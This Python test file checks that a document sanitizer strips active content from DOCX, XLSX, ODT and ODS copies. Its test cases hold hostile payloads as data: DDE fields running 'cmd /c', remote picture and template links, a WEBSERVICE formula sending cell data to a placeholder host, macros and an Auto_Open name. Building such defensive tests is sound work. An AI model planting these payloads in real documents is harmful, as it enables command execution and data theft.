"""Nothing in a working copy is worked out, loaded or started when an office program opens it."""

from __future__ import annotations

import base64
import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from hinweisgeber import sandbox
from hinweisgeber.sandbox.inside.documents import tree
from hinweisgeber.sandbox.inside.documents.odf import content as odf_content
from tests.sandbox import samples
from tests.sandbox.documents import office_samples
from tests.sandbox.samples import DEVICE

Finding = tuple[str, str] | None  # None: nothing that must be told
Cases = dict[str, tuple[str, Finding]]
URL = f"http://{DEVICE}.example/a"
RESULT = "last result"
RESULTS_STAY = (
    "formula",
    "Rechenformeln; in der Kopie stehen ihre letzten Ergebnisse, und nichts, wo keines gespeichert war",
)
CELL = "<sheetData><row r='2'><c r='A2' t='str'>{}<v>last result</v></c></row></sheetData>"
MARK = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"


def field(*code: str) -> str:
    """A field of WordprocessingML whose code lies in these runs."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in code)
    begin, separate, end = (MARK.format(kind) for kind in ("begin", "separate", "end"))
    return f"<w:p>{begin}{runs}{separate}<w:r><w:t>{RESULT}</w:t></w:r>{end}</w:p>"


def simple(code: str) -> str:
    """The same in its short form."""
    run = f"<w:fldData>{DEVICE}</w:fldData><w:r><w:t>{RESULT}</w:t></w:r>"
    return f"<w:p><w:fldSimple w:instr='{code}'>{run}</w:fldSimple></w:p>"


DOCX: Cases = {
    "DDEAUTO, short form": (simple(f"DDEAUTO cmd {DEVICE}"), ("link", f"DDEAUTO cmd {DEVICE}")),
    "picture, short form": (simple(f'INCLUDEPICTURE "{URL}"'), ("link", f'INCLUDEPICTURE "{URL}"')),
    "ddeauto in small letters": (field(f"ddeauto cmd {DEVICE}"), ("link", f"ddeauto cmd {DEVICE}")),
    "includepicture in small letters": (field(f"includepicture {URL}"), ("link", f"includepicture {URL}")),
    "code over two runs": (field("INCLUDE", f"PICTURE {URL}"), ("link", f"INCLUDEPICTURE {URL}")),
    "author": (field(f"author {DEVICE}"), ("author", f"author {DEVICE}")),
    "code that was struck out": (field(DEVICE).replace("instrText", "delInstrText"), None),
    "click on a drawing": (
        (
            "<w:p><w:r><w:drawing><wp:inline><wp:docPr id='2' name='x'>"
            f"<a:hlinkClick action='ppaction://program' tooltip='{DEVICE}'/>"
            f"<a:hlinkHover action='ppaction://program' invalidUrl='{URL}'/>"
            f"</wp:docPr></wp:inline></w:drawing></w:r><w:r><w:t>{RESULT}</w:t></w:r></w:p>"
        ),
        None,
    ),
    "document in the document": (
        f"<w:altChunk r:id='rId8'/><w:subDoc r:id='rId8'/><w:p><w:r><w:t>{RESULT}</w:t></w:r></w:p>",
        None,
    ),
}
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
XLSX: Cases = {
    "WEBSERVICE": (
        CELL.format(f'<f>_xlfn.WEBSERVICE("{URL}?"&amp;A1)</f>'),
        ("formula", f'_xlfn.WEBSERVICE("{URL}?"&A1)'),
    ),
    "DDE": (CELL.format(f"<f>cmd|'/c {DEVICE}'!A1</f>"), ("formula", f"cmd|'/c {DEVICE}'!A1")),
    "another file": (CELL.format(f"<f>[1]{DEVICE}!A1</f>"), ("formula", f"[1]{DEVICE}!A1")),
    "shared": (
        CELL.format(f"<f t='shared' ref='A1:A9' si='0'>image('{DEVICE}')</f>"),
        ("formula", f"image('{DEVICE}')"),
    ),
    "array": (CELL.format(f"<f t='array' ref='A1:A9'>RTD('{DEVICE}')</f>"), ("formula", f"RTD('{DEVICE}')")),
    "plain formula": (CELL.format("<f>SUM(B1:B9)</f>"), RESULTS_STAY),
    "colours by formula": (
        (
            "<conditionalFormatting sqref='A1'><cfRule type='expression'>"
            f'<formula>WEBSERVICE("{URL}")</formula></cfRule></conditionalFormatting>'
        ),
        ("formula", f'WEBSERVICE("{URL}")'),
    ),
    "validity": (
        f"<dataValidations><dataValidation sqref='A1'><formula1>{DEVICE}</formula1></dataValidation></dataValidations>",
        ("dropped-part", "Eingabeprüfung"),
    ),
    "drawing with a macro": (
        f"<d:sp xmlns:d='{DRAWING}' macro='[0]!{DEVICE}' textlink='{DEVICE}!$A$1'/>",
        ("script", f"[0]!{DEVICE}"),
    ),
}
PHOTO = base64.b64encode(samples.image("JPEG")).decode()
ODT: Cases = {
    "DDE": (
        (
            f"<text:dde-connection-decls><text:dde-connection-decl office:name='{DEVICE}' "
            f"office:dde-application='soffice' office:dde-topic='{URL}'/></text:dde-connection-decls>"
            f"<text:p><text:dde-connection text:connection-name='{DEVICE}'>{RESULT}</text:dde-connection></text:p>"
        ),
        ("link", f"soffice {URL}"),
    ),
    "property": (f"<text:p><text:user-defined text:name='{DEVICE}'>{RESULT}</text:user-defined></text:p>", None),
    "picture in the text": (
        (
            "<text:p><draw:frame><draw:image><office:binary-data>"
            f"{PHOTO}</office:binary-data></draw:image></draw:frame>{RESULT}</text:p>"
        ),
        ("dropped-part", "Eingebettete Daten"),
    ),
    "script": (
        f"<text:p><text:script script:language='{DEVICE}'>MsgBox {DEVICE}</text:script>{RESULT}</text:p>",
        ("script", f"MsgBox {DEVICE}"),
    ),
    "text from elsewhere": (
        f"<text:section><text:section-source xlink:href='{URL}'/><text:p>{RESULT}</text:p></text:section>",
        ("link", URL),
    ),
    "macro": (
        (
            f"<text:p><text:execute-macro text:name='{DEVICE}'><office:event-listeners><script:event-listener "
            f"script:macro-name='{DEVICE}'/></office:event-listeners>{RESULT}</text:execute-macro></text:p>"
        ),
        ("script", "Makro"),
    ),
    "formula in a field": (
        f"<text:p><text:sequence text:formula='ooow:{DEVICE}'>{RESULT}</text:sequence></text:p>",
        None,
    ),
    "variable": (
        (
            f"<text:user-field-decls><text:user-field-decl text:name='{DEVICE}'/></text:user-field-decls>"
            f"<text:p><text:user-field-get text:name='{DEVICE}'>{RESULT}</text:user-field-get></text:p>"
        ),
        None,
    ),
    "condition": (
        f"<text:section text:display='condition' text:condition='{DEVICE}'><text:p>{RESULT}</text:p></text:section>",
        ("hidden-text", "section"),
    ),
}
CELLS = (
    f"<table:table table:name='A'><table:table-row><table:table-cell {{}}><text:p>{RESULT}</text:p>"
    "</table:table-cell></table:table-row></table:table>"
)
ODS: Cases = {
    "formula": (
        CELLS.format(f"table:formula='of:=WEBSERVICE(\"{URL}\")' table:content-validation-name='{DEVICE}'"),
        ("formula", f'of:=WEBSERVICE("{URL}")'),
    ),
    "plain formula": (CELLS.format("table:formula='of:=1+1' table:number-matrix-columns-spanned='1'"), RESULTS_STAY),
    "named formula": (
        CELLS.format("") + f"<table:named-expressions><table:named-expression table:name='{DEVICE}' "
        f"table:expression='WEBSERVICE(\"{URL}\")'/></table:named-expressions>",
        ("dropped-part", "Benannte Bereiche"),
    ),
    "validity": (
        f"<table:content-validations><table:content-validation table:name='{DEVICE}' "
        f"table:condition='of:{DEVICE}'/></table:content-validations>" + CELLS.format(""),
        ("dropped-part", "Eingabeprüfung"),
    ),
    "database": (
        CELLS.format("") + f"<table:database-ranges><table:database-range><table:database-source-sql "
        f"table:database-name='{DEVICE}'/></table:database-range></table:database-ranges>"
        f"<table:data-pilot-tables><table:data-pilot-table><table:source-service table:user-name='{DEVICE}'/>"
        f"</table:data-pilot-table></table:data-pilot-tables>",
        None,
    ),
    "DDE": (
        (
            f"{CELLS.format('')}<table:dde-links><office:dde-source office:dde-application='soffice' "
            f"office:dde-topic='{URL}'/></table:dde-links>"
        ),
        ("link", f"soffice {URL}"),
    ),
}


ACTIVE = {
    *("instrText", "delInstrText", "fldChar", "fldSimple", "fldData", "instr", "altChunk", "subDoc"),
    *("hlinkClick", "hlinkHover", "action", "invalidUrl", "macro", "textlink"),
    *("f", "definedName", "dataValidation", "conditionalFormatting"),
    *("formula", "condition", "binary-data", "script", "execute-macro", "event-listener", "dde-source"),
    *(
        "dde-connection",
        "dde-connection-decls",
        "section-source",
        "user-defined",
        "named-expression",
        "content-validation",
    ),
    *("database-source-sql", "source-service", "content-validation-name", "number-matrix-columns-spanned"),
}


@dataclass
class Copy:
    """A part of a working copy: its text, the names of its elements and attributes, and what was told."""

    text: str
    names: set[str]
    told: set[tuple[str, str]]


def copied(package: bytes, name: str, part: str, place: str, content: str) -> Copy:
    """The copy of this package with `content` before `place` in that part."""
    with zipfile.ZipFile(io.BytesIO(package)) as model:
        parts: dict[str, str | bytes] = {one: model.read(one) for one in model.namelist()}
        before = model.read(part).decode()
    assert before.count(place) == 1
    parts[part] = before.replace(place, content + place)
    work = sandbox.clean([samples.archive(parts)], name)
    data = b"".join(work.content)
    assert not samples.holds(data)
    with zipfile.ZipFile(io.BytesIO(data)) as package_of_copy:
        root = tree.parse(package_of_copy.read(part))
    names = {tree.local(name) for one in root.iter() for name in (one.tag, *one.attrib)}
    return Copy("".join(root.itertext()), names, {(one.label, one.value) for one in work.findings})


PLACES = {  # in which part of which sample the cases stand, and before what
    "docx": (DOCX, "word/document.xml", "<w:sectPr>"),
    "xlsx": (XLSX, "xl/worksheets/sheet1.xml", "<legacyDrawing"),
    "odt": (ODT, "content.xml", "</office:text>"),
    "ods": (ODS, "content.xml", "</office:spreadsheet>"),
}


@pytest.mark.parametrize(
    ("kind", "case"), [pytest.param(k, one, id=f"{k}, {one}") for k, (cases, *_) in PLACES.items() for one in cases]
)
def test_what_was_last_seen_stays_and_nothing_that_acts(kind: str, case: str) -> None:
    cases, part, place = PLACES[kind]
    content, told = cases[case]
    copy = copied(getattr(office_samples, kind)(), f"a.{kind}", part, place, content)
    assert copy.text.count(RESULT) == content.count(RESULT)
    assert not copy.names & ACTIVE
    assert told is None or told in copy.told


def test_xlsx_keeps_no_names_for_formulas() -> None:
    names = f'<definedNames><definedName name="Auto_Open">WEBSERVICE("{URL}")</definedName></definedNames>'
    copy = copied(office_samples.xlsx(), "a.xlsx", "xl/workbook.xml", "</workbook>", names)
    assert not copy.names & ACTIVE
    assert {("formula", f'WEBSERVICE("{URL}")'), ("dropped-part", "Benannte Bereiche")} <= copy.told


def test_fraction_in_a_text_is_no_formula_of_a_table() -> None:
    math = "http://schemas.openxmlformats.org/officeDocument/2006/math"
    fraction = (
        f"<w:p><m:oMath xmlns:m='{math}'><m:f><m:num><m:r><m:t>{RESULT}</m:t></m:r></m:num></m:f></m:oMath></w:p>"
    )
    copy = copied(office_samples.docx(), "a.docx", "word/document.xml", "<w:sectPr>", fraction)
    assert RESULT in copy.text
    assert "f" in copy.names


def test_template_that_settings_load_is_told() -> None:
    with zipfile.ZipFile(io.BytesIO(office_samples.docx())) as model:
        parts: dict[str, str | bytes] = {one: model.read(one) for one in model.namelist()}
    link = ("rId1", "attachedTemplate", URL, ' TargetMode="External"')
    parts["word/_rels/settings.xml.rels"] = office_samples.relations(link)
    work = sandbox.clean([samples.archive(parts)], "a.docx")
    assert not samples.holds(b"".join(work.content))
    assert ("template", URL) in {(one.label, one.value) for one in work.findings}


def test_conditional_style_stays_only_if_it_compares_numbers() -> None:
    style = (
        "<style:style style:name='a'><style:map style:condition='value()&gt;=0.5'/>"
        f"<style:map style:condition='is-true-formula({DEVICE})'/></style:style>"
    )
    copy = copied(office_samples.odt(), "a.odt", "content.xml", "<office:body>", style)
    assert "map" in copy.names


def test_every_name_odf_is_asked_for_is_one_of_its_elements() -> None:
    # Local names of the elements of OpenDocument 1.2, from its schema.
    known = set((Path(__file__).parent / "odf_elements.txt").read_text().split())
    assert (odf_content.DROP | odf_content.FIELDS) - known == set()
